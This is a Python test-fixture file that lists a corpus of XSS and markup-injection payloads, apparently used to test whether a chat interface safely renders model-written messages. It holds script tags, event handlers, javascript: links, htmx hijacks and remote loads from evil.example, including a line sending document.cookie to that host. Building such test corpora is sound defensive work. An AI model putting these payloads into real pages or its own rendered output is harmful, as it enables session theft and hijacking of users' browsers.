"""What somebody could write, or make a model write, to get out of a message."""

SCRIPTS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script src="https://evil.example/x.js"></script>
<script type=module>import "https://evil.example/x.js"</script>
</div></article><script>alert(1)</script>
--><script>alert(1)</script><!--
<svg><script>alert(1)</script></svg>
<svg><script href="https://evil.example/x.js"/></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<noscript><p title="</noscript><script>alert(1)</script>">
<template><script>alert(1)</script></template>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
<!--[if true]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E""".splitlines()

HANDLERS = """\
<img src=x onerror=alert(1)>
<img src=x onerror="fetch('https://evil.example/'+document.cookie)">
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>
<a href=# onclick=alert(1)>click</a>
<p onpointerenter=alert(1)>over</p>
<style onload=alert(1)></style>
<object data=x onerror=alert(1)></object>
<iframe onload=alert(1)></iframe>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>x</div>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>""".splitlines()

LINKS = """\
[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a](java&#115;cript:alert(1))
[a](&#x6A;avascript:alert(1))
[a](javascript&colon;alert(1))
[a](java\\script:alert(1))
[a](<javascript:alert(1)>)
[a](<java
script:alert(1)>)
[a]( javascript:alert(1))
[a](\x01javascript:alert(1))
[a](javascript://evil.example/%0Aalert(1))
[a](vbscript:msgbox(1))
[a](data:text/html,<script>alert(1)</script>)
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](data:image/svg+xml,<svg onload=alert(1)>)
[a](blob:https://evil.example/x)
[a](file:///etc/passwd)
[a](//evil.example/x)
[a](https://evil.example/" onmouseover="alert(1))
[a](https://evil.example/ "x\\" onmouseover=\\"alert(1)")
[a](https://evil.example/ 'x" onmouseover="alert(1)')
<javascript:alert(1)>
<https://evil.example/"onmouseover="alert(1)>
<a href="javascript:alert(1)">a</a>
[x]: javascript:alert(1)
[a][x]
[a](https://evil.example/`<img src=x onerror=alert(1)>`)
[<img src=x onerror=alert(1)>](https://evil.example)
http://evil.example/?<script>alert(1)</script>""".split("\n")

LOADS = """\
![a](https://evil.example/x.png)
![a](//evil.example/x.png)
![a](javascript:alert(1))
![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![a" onerror="alert(1)](x)
![a](x "y\\" onerror=\\"alert(1)")
[![a](https://evil.example/x.png)](javascript:alert(1))
![](https://evil.example/pixel.gif?text=everything)
<img src=https://evil.example/x.png>
<img srcset="https://evil.example/x.png 1x">
<picture><source srcset=https://evil.example/x.png><img></picture>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/x.png>
<style>@import "https://evil.example/x.css"; body { display: none }</style>
<p style="background:url(https://evil.example/x.png)">x</p>
<iframe src=https://evil.example></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data=https://evil.example></object>
<embed src=https://evil.example>
<video src=https://evil.example/x.mp4 autoplay></video>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<form action=https://evil.example/><button>Log in</button></form>
<table background=https://evil.example/x.png><tr><td>x</table>""".splitlines()

HYPERMEDIA = """\
<hx-partial hx-target="body" hx-swap="innerHTML">taken</hx-partial>
<hx-partial hx-target="#composer" hx-swap="outerHTML"><form action=https://evil.example/></hx-partial>
</hx-partial><hx-partial hx-target="#history" hx-swap="innerHTML">taken
</hx-partial></hx-partial><div id="notices">taken</div>
<div id="composer" hx-swap-oob="true">taken</div>
<div hx-swap-oob="innerHTML:#history">taken</div>
<div hx-get="/account" hx-trigger="load" hx-target="body">x</div>
<div data-hx-get="/account" data-hx-trigger="load">x</div>
<div hx-post="/logout" hx-trigger="load">x</div>
<div hx-get="https://evil.example/" hx-trigger="load">x</div>
<div hx-sse:connect="/replies/x/stream">x</div>
<div hx-on:load="alert(1)">x</div>
<div hx-vals="js:{a: alert(1)}" hx-get="/" hx-trigger=load>x</div>
<hx-title>taken</hx-title><title>taken</title>
`<hx-partial hx-target="body">`
**<hx-partial hx-target="body">taken</hx-partial>**
| <hx-partial hx-target="body">taken</hx-partial> |
> <div hx-get="/" hx-trigger="load">x</div>
- <hx-partial hx-target="#messages" hx-swap="delete"></hx-partial>
id: 99 data: <hx-partial hx-target="body">taken</hx-partial> event: hx:release
<button formaction=/logout form=composer>x</button>
<input form=composer name=text value=taken>
<div id="announcer" aria-live="assertive">taken</div>
<article data-reply="x" data-state="complete">taken</article>""".splitlines()

FENCES = [
    '```"><script>alert(1)</script>\ncode\n```',
    '```python onmouseover="alert(1)"\ncode\n```',
    "```html\n<script>alert(1)</script></code></pre><img src=x onerror=alert(1)>\n```",
    '```\n<hx-partial hx-target="body">taken</hx-partial>\n</code></pre></figure>\n```',
    "~~~<img src=x onerror=alert(1)>\n</pre><svg onload=alert(1)>\n~~~",
    "a | b\n--|--\n<img src=x onerror=alert(1)> | [x](javascript:alert(1))",
    "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
    "data: x\nid: 5\nevent: hx:release\n\ndata: <hx-partial hx-target='body'>taken</hx-partial>",
    "\u202egnp.exe <img src=x onerror=alert(1)>",
    "<img src=x \u2028onerror=alert(1)>\u0085<script>alert(1)</script>",
]

CORPUS = [*SCRIPTS, *HANDLERS, *LINKS, *LOADS, *HYPERMEDIA, *FENCES]
